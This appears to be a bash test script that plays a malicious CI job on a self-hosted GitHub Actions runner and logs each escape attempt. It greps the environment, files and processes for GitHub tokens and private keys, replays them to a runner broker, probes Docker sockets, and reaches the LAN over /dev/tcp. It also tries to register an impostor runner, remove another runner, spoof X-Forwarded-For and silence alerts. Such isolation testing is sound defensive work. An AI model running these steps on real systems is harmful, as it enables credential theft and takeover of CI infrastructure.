#!/usr/bin/env bash
# The worst job that a workflow may hold, as far as a test can: each try prints `TRY <name> <got|nothing>: …`. It knows where
# things are (facts.env), which a real one would have to find out. It knows no secret.
# shellcheck disable=SC1091
source "$(dirname "${BASH_SOURCE[0]}")/facts.env"

try() {
  local name=$1 found
  shift
  if found=$("$@" 2>&1) && [[ -n $found ]]; then found="got: $found"; else found="nothing: $found"; fi
  echo "TRY $name ${found//$'\n'/ }" | cut -c 1-400
}

# What GitHub's tokens look like, and keys of Apps.
secret='gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}|BEGIN [A-Z ]*PRIVATE KEY'

# Each prints what it found, once.
in_environment() { env | grep -oE "$secret" | sort -u; }
in_files() { grep -rIohE --exclude-dir={proc,sys,dev} --exclude=job.sh -e "$secret" / 2>/dev/null | sort -u; }
in_processes() { cat /proc/[0-9]*/{environ,cmdline} 2>/dev/null | tr '\0' '\n' | grep -aoE "$secret" | sort -u; }

# ask KIND KEY CURL-OPTION…: what the broker says where it gives.
ask() {
  local kind=$1 key=$2
  shift 2
  curl -sS --fail-with-body -m 20 -H "Authorization: Bearer $key" -H 'Content-Type: application/json' "$@" \
    -d "{\"kind\":\"$kind\",\"scope\":\"octo/homelab\",\"labels\":[\"self-hosted\"]}" "$RUNNER_BROKER_URL/api/v1/runner-token"
}
key=$(cat /run/runner-key/key)
main=${RUNNER_BROKER_URL%:*}:9478

# One by one, as who does not know what they are good for.
use() {
  local found
  for found in $("$1"); do ask registration "$found"; done
}

docker_api() { curl -sS --fail -m 3 "$@"; }
proxy_anywhere() {
  local address
  for address in $PROXY_ADDRESSES docker-socket-proxy; do docker_api "http://$address:2375/version" && return; done
  return 1
}

# writes PATH: where it can be written, and what is there must be given back.
writes() { touch "$1/left-behind" && rm -f "$1/left-behind" && echo "$1"; }

# With what this runner itself proves who it is.
own_identity() { jq -r .data.clientId /home/runner/.credentials; }
register_with() { curl -sS --fail -m 5 -X POST -H "Authorization: Bearer $1" "$GITHUB_API_URL/repos/octo/homelab/actions/runners/registration-token"; }
# register_copy TOKEN NAME OPTION…
register_copy() {
  local token=$1 name=$2
  shift 2
  rm -rf /tmp/other && mkdir /tmp/other && cp -r /home/runner/{bin,config.sh} /tmp/other && cd /tmp/other || return
  ./config.sh --unattended --url "$GITHUB_SERVER_URL/octo/homelab" --name "$name" --token "$token" "$@" && echo registered
}
take_out() { curl -sS --fail -m 5 -X DELETE -H "Authorization: Bearer $2" -w 'taken out' "$GITHUB_API_URL/repos/octo/homelab/actions/runners/$1"; }

report_other() {
  curl -sS --fail -m 5 -H 'Content-Type: application/json' -H 'X-Forwarded-For: 10.0.0.1' \
    -d '{"phase":"started","repository":"octo/forged"}' "$RUNNER_BROKER_URL/api/v1/runner-job"
}
runnerwatch() { curl -sS --fail -m 5 -X POST -H 'Content-Type: application/json' -d "$2" "$RUNNER_BROKER_URL$1"; }
look() { curl -sS --fail -m 3 "$@"; }
# looks PREFIX URL: at all that a port might serve.
looks() {
  try "$1: metrics" look "$2/metrics"
  try "$1: probe" look "$2/probe?target=$LAN_HOST&module=icmp"
  try "$1: reload" look -X POST "$2/-/reload"
  try "$1: runners" look "$2/api/v1/runners"
  try "$1: the page" look "$2/"
}

try 'token in the environment' in_environment
try 'token in files' in_files
try 'token in processes' in_processes

try 'broker: a token of the environment' use in_environment
try 'broker: a token of a file' use in_files
try 'broker: a token of a process' use in_processes
try 'broker: registration' ask registration "$key"
try 'broker: just in time' ask jit "$key"
try 'broker: a guessed key' ask registration guess
try 'broker: as another runner' ask registration "$key" -H "X-Forwarded-For: $OTHER_ADDRESS"
try 'broker: its own removal' ask remove "$key"

try 'Docker: the socket' docker_api --unix-socket /var/run/docker.sock http://docker/version
try 'Docker: as its programs do' docker_api "${DOCKER_HOST/tcp/http}/v1.51/containers/json"
try 'Docker: the proxy' proxy_anywhere
try 'Docker: the host' docker_api "http://$GATEWAY:2375/version"

for folder in / /etc /usr/bin /opt /runner /run/runner-key /run /var/lib /home; do try "write to $folder" writes "$folder"; done
try 'sudo' sudo -n id -u
try 'mount' mount -t tmpfs none /mnt
try 'capabilities' grep -E '^Cap(Eff|Prm|Amb):[[:space:]]*0*[1-9a-f]' /proc/self/status
try 'key of the other runner' find / -xdev -path '*runner-key*' -name key ! -path /run/runner-key/key
try 'files of the other runner' find /home/runner/_work /opt/hostedtoolcache -name other-runner

try 'the LAN' bash -c "timeout 3 cat </dev/tcp/$LAN_HOST/22"
try 'register: no token' register_with ''
try 'register: with what it found' register_with "$(in_environment)"
try 'register: as this runner' register_with "$(own_identity)"
try 'register: a copy of this runner' register_copy "$(own_identity)" intruder
try 'register: in the place of the other runner' register_copy "$(own_identity)" "$OTHER_RUNNER" --replace
try 'register: take the other runner out' take_out "$OTHER_ID" "$(own_identity)"

try 'Runnerwatch: report for another' report_other
looks Runnerwatch "$RUNNER_BROKER_URL"
looks 'main port' "$main"
try 'Runnerwatch: restart others' runnerwatch /api/v1/recover '{"version":"4","alerts":[]}'
try 'Runnerwatch: silence' runnerwatch /api/v2/silences '{"matchers":[{"name":"a","value":"b","isRegex":false}],"startsAt":"2030-01-01T00:00:00Z","endsAt":"2030-01-02T00:00:00Z","createdBy":"x","comment":"x"}'
echo 'DONE'
